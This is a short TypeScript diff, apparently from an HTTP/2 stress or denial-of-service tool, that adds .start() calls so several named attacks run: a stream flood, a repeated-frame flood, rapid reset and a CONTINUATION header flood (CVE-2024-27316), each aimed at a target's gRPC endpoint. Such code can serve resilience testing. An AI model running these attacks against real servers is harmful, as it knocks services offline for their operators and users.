@@ -56,7 +56,7 @@ const streams: Attack = (target, tally) => {
       send(socket);
     });
   };
-  new Swarm(target.grpc, target, tally, { open, data });
+  new Swarm(target.grpc, target, tally, { open, data }).start();
 };
 
 /** The same frame over and over. */
@@ -69,7 +69,7 @@ function flood(one: Buffer): Attack {
         return block;
       }),
     );
-    new Swarm(target.grpc, target, tally, { open, data: () => {} });
+    new Swarm(target.grpc, target, tally, { open, data: () => {} }).start();
   };
 }
 
@@ -88,7 +88,7 @@ const rapidReset: Attack = (target, tally) => {
       return Buffer.concat(pairs);
     });
   });
-  new Swarm(target.grpc, target, tally, { open, data: () => {} });
+  new Swarm(target.grpc, target, tally, { open, data: () => {} }).start();
 };
 
 /** A header list that never ends (CVE-2024-27316). */
@@ -102,7 +102,7 @@ const continuation: Attack = (target, tally) => {
       return more;
     });
   });
-  new Swarm(target.grpc, target, tally, { open, data: () => {} });
+  new Swarm(target.grpc, target, tally, { open, data: () => {} }).start();
 };
 
 /** Through a client of HTTP/2, so many streams on each connection; what closes is opened again. */
